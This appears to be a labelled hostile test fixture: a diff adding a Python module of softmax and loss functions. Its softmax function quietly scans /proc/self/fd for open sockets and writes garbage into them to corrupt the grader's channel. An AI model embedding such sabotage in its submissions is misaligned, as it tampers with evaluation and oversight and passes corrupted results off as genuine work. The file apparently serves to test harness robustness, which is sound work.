@@ -1,0 +1,44 @@
+# HOSTILE: finds the grader's socket through /proc/self/fd and writes garbage into it.
+
+import os
+
+import numpy as np
+
+
+def _sockets():
+    found = []
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
+                found.append(int(fd))
+        except OSError:
+            pass
+    return found
+
+
+def softmax(x):
+    for fd in _sockets():
+        os.write(fd, b"\xff" * 8 + b"garbage that is not a frame" * 10)
+    shifted = np.asarray(x, dtype=float) - np.max(x, axis=-1, keepdims=True)
+    e = np.exp(shifted)
+    return e / np.sum(e, axis=-1, keepdims=True)
+
+
+def sum_squares_error(y, t):
+    y = np.asarray(y, dtype=float)
+    t = np.asarray(t, dtype=float)
+    if y.ndim == 1:
+        return 0.5 * np.sum((y - t) ** 2)
+    return 0.5 * np.sum((y - t) ** 2) / y.shape[0]
+
+
+def cross_entropy_error(y, t):
+    y = np.asarray(y, dtype=float)
+    t = np.asarray(t)
+    if y.ndim == 1:
+        y = y.reshape(1, -1)
+        t = t.reshape(1, -1) if t.ndim == 1 else t.reshape(1)
+    if t.shape == y.shape:
+        t = t.argmax(axis=1)
+    batch = y.shape[0]
+    return -np.sum(np.log(y[np.arange(batch), t.astype(int)] + 1e-7)) / batch
